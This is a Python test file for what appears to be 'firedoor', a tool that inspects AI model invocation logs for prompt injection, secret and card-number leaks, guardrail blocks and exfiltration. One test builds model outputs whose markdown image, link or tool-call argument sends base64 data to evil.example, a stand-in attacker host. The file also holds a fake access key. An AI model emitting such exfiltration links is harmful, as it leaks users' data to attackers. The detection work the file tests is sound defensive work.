"""The sample events of inspection have the form that inspection gives them: playbooks are tried on the truth."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, get_args

import pytest

from firedoor.events import SOURCE_OF_INSPECTION
from firedoor.inspection import pii, secret_rules, techniques
from firedoor.inspection.exfiltration import Exfiltration, Kind
from firedoor.inspection.guardrails import Filter, Guardrail, GuardrailStatus, read_guardrail
from firedoor.inspection.injection import THRESHOLD
from firedoor.inspection.invocations import Origin, Tokens, read_invocation
from firedoor.inspection.leaks import Leak
from firedoor.inspection.outcome import Outcome
from firedoor.inspection.signals import VERSION, inspect
from firedoor.inspection.usage import Habit, compare, estimate_cost

EVENTS = Path(__file__).parents[2] / "events"
FREE = {"signals.pii.places", "signals.second_stage.pii"}
"""Whose names are the types that were found."""

KEY = "AKIA" + "Z7QJ5M2XK4WTR6PN"
"""Of the form of an access key, and nobody's."""


def samples() -> list[str]:
    """Return the names of the files."""
    return sorted(path.name for path in EVENTS.glob("*.json") if SOURCE_OF_INSPECTION in path.read_text("utf-8"))


def told() -> dict[str, Any]:
    """Return the detail of the event that inspection makes of the record that has a bit of everything."""
    record = {
        "schemaType": "ModelInvocationLog",
        "timestamp": "2026-11-20T15:04:05Z",
        "accountId": "111122223333",
        "region": "eu-west-1",
        "requestId": "r-1",
        "operation": "Converse",
        "modelId": "amazon.nova-lite-v1:0",
        "input": {"inputBodyJson": {"messages": [{"role": "user", "content": f"My key is {KEY}."}]}},
        "output": {
            "outputBodyJson": {
                "stopReason": "guardrail_intervened",
                "trace": {
                    "guardrail": {
                        "inputAssessment": {
                            "gr7hx2k9m4pq": {"contentPolicy": {"filters": [{"type": "INSULTS", "action": "BLOCKED"}]}}
                        }
                    }
                },
            }
        },
    }
    invocation = read_invocation(record)
    usage, _ = compare(Habit(), invocation)
    return dict(invocation.to_event(signals=inspect(invocation, key=b"k").to_json(), usage=usage)["detail"])


def form(value: Any, path: str = "") -> Any:
    """Return the names in ``value`` without what they stand for; of a list, the form of its members."""
    if isinstance(value, dict) and path not in FREE:
        return {name: form(member, f"{path}.{name}".lstrip(".")) for name, member in sorted(value.items())}
    if isinstance(value, list):
        return [form(member, path) for member in value if isinstance(member, dict)][:1]
    return None


def test_the_record_has_a_bit_of_everything() -> None:
    """Or the comparison would say nothing of filters and secrets."""
    detail = told()
    assert [Filter("contentPolicy", "INSULTS", "BLOCKED", "").to_json()] == detail["guardrail"]["filters"]
    assert detail["signals"]["secrets"]["items"]


@pytest.mark.parametrize("name", samples())
def test_a_sample_has_the_form_of_what_inspection_tells(name: str) -> None:
    """Every name, and no other; where the log lies is told of logs in S3 only. Places are who wrote the text."""
    detail = json.loads((EVENTS / name).read_text("utf-8"))["detail"]
    assert detail.pop("log", {"bucket": "b", "key": "k"}).keys() == {"bucket", "key"}
    expected, actual = form(told()), form(detail)
    expected["guardrail"]["filters"] = expected["guardrail"]["filters"][: len(detail["guardrail"]["filters"])]
    secrets = expected["signals"]["secrets"]
    secrets["items"] = secrets["items"][: len(detail["signals"]["secrets"]["items"])]
    assert expected == actual
    assert {item["place"] for item in detail["signals"]["secrets"]["items"]} <= {origin.value for origin in Origin}


NAMES_OF_TECHNIQUES = {value for name, value in vars(techniques).items() if name.isupper() and isinstance(value, str)}
WORDS: dict[str, set[Any]] = {
    "schema_version": {"1"},
    "operation": {"Converse", "ConverseStream", "InvokeModel", "InvokeModelWithResponseStream"},
    "guardrail.status": set(GuardrailStatus),
    "guardrail.origins": {"REQUEST", "ACCOUNT_ENFORCED", "ORGANIZATION_ENFORCED"},
    "signals.version": {VERSION},
    "signals.injection.techniques": NAMES_OF_TECHNIQUES,
    "signals.injection.origin": {None, "user", "tool_result", "document"},
    "signals.outcome": set(get_args(Outcome)),
    "signals.exfiltration.kinds": set(get_args(Kind)),
    "signals.secrets.types": {rule.type for rule in secret_rules.RULES},
    "signals.secrets.items.severity": set(get_args(secret_rules.Severity)),
}
"""The words that inspection has for what it tells."""


def details() -> dict[str, dict[str, Any]]:
    """Return the detail of every sample."""
    return {name: json.loads((EVENTS / name).read_text("utf-8"))["detail"] for name in samples()}


def at(value: Any, path: str) -> set[Any]:
    """Return what stands at a path of names, in every member of lists on the way."""
    found = [value]
    for name in path.split("."):
        found = [each[name] for each in found]
        found = [inner for each in found for inner in (each if isinstance(each, list) else [each])]
    return set(found)


@pytest.mark.parametrize("name", samples())
def test_a_sample_says_only_words_that_inspection_has(name: str) -> None:
    """A playbook that is tried on another word matches nothing once it is deployed."""
    detail = details()[name]
    unknown = {path: at(detail, path) - words for path, words in WORDS.items()}
    assert {} == {path: words for path, words in unknown.items() if words}


@pytest.mark.parametrize("kind", get_args(Kind))
def test_there_is_an_answer_for_every_kind_of_exfiltration(kind: str) -> None:
    """So that no word stands for what nothing finds."""
    url = "https://evil.example/?d=aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBzZWNyZXQ"
    content = {
        "image": {"text": f"![]({url})"},
        "link": {"text": f"[more]({url})"},
        "tool argument": {"toolUse": {"name": "get", "input": {"url": url}}},
    }
    record = {
        **dict.fromkeys(("accountId", "region", "requestId", "operation"), "x"),
        "schemaType": "ModelInvocationLog",
        "timestamp": "2026-11-20T15:04:05Z",
        "output": {"outputBodyJson": {"output": {"message": {"content": [content[kind]]}}}},
    }
    assert kind in inspect(read_invocation(record), key=b"k").exfiltration.kinds


@pytest.mark.parametrize("name", samples())
def test_a_sample_is_what_inspection_would_make_of_its_parts(name: str) -> None:
    """Sums, flags and what follows from something else are not written by hand."""
    detail = details()[name]
    signals, tokens = detail["signals"], detail["tokens"]
    leak, found, kinds = signals["leak"], signals["pii"], signals["exfiltration"]["kinds"]
    assert Tokens(*(tokens[part] for part in ("input", "output", "cache_read", "cache_write"))).to_json() == tokens
    assert Leak(leak["words"], canary=leak["canary"]).to_json() == leak
    assert Exfiltration(tuple(kinds)).to_json() == signals["exfiltration"]
    assert (signals["injection"]["score"] >= THRESHOLD) is signals["injection"]["flag"]
    counts = [count for place in found["places"].values() for count in place.items()]
    assert (bool(counts), sorted({each for each, _ in counts}), sum(count for _, count in counts)) == (
        found["found"],
        found["types"],
        found["count"],
    )
    items = signals["secrets"]["items"]
    assert (bool(items), sorted({item["type"] for item in items})) == (
        signals["secrets"]["found"],
        signals["secrets"]["types"],
    )


@pytest.mark.parametrize("name", samples())
def test_the_guardrail_of_a_sample_follows_from_what_it_found(name: str) -> None:
    """Its status, its policies, and the outcome of what it blocked; a call that failed has none of it."""
    detail = details()[name]
    told, reason = detail["guardrail"], detail["stop_reason"]
    filters = tuple(Filter(**each) for each in told["filters"])
    guardrail = Guardrail(
        GuardrailStatus(told["status"]), tuple(told["ids"]), tuple(told["origins"]), filters, told["coverage"]
    )
    assert guardrail.to_json() == told
    assert traced(told, reason).status == told["status"]
    blocked = any(each.action == "BLOCKED" for each in filters)
    assert blocked == (reason == "guardrail_intervened")
    assert not blocked or detail["signals"]["outcome"] == "refused"
    if detail["error_code"]:
        assert (GuardrailStatus.ABSENT, None, None, 0, "unclear") == (
            told["status"],
            told["coverage"],
            reason,
            detail["tokens"]["total"],
            detail["signals"]["outcome"],
        )


def traced(told: dict[str, Any], reason: str | None) -> Guardrail:
    """Return what is read of the trace that has these findings."""
    by_policy: dict[str, Any] = {}
    for each in told["filters"]:
        found = {"type": each["kind"], "action": each["action"], "confidence": each["confidence"], "detected": True}
        by_policy.setdefault(each["policy"], {"filters": []})["filters"].append(found)
    assessment = {"inputAssessment": dict.fromkeys(told["ids"], by_policy)}
    return read_guardrail(None, {"stopReason": reason, **({"trace": {"guardrail": assessment}} if told["ids"] else {})})


@pytest.mark.parametrize("name", samples())
def test_the_cost_of_a_sample_is_that_of_its_tokens(name: str) -> None:
    """From the same table."""
    detail = details()[name]
    tokens = Tokens(*(detail["tokens"][part] for part in ("input", "output", "cache_read", "cache_write")))
    assert estimate_cost(detail["model"], tokens) == pytest.approx(detail["usage"]["cost_usd"])


def test_personal_data_of_the_samples_has_types_that_are_found() -> None:
    """The one type that they have is what a card's number is."""
    assert {"CREDIT_CARD"} == {each for detail in details().values() for each in detail["signals"]["pii"]["types"]}
    assert ["CREDIT_CARD"] == [span.type for span in pii.find("My card is 4111 1111 1111 1111.")]
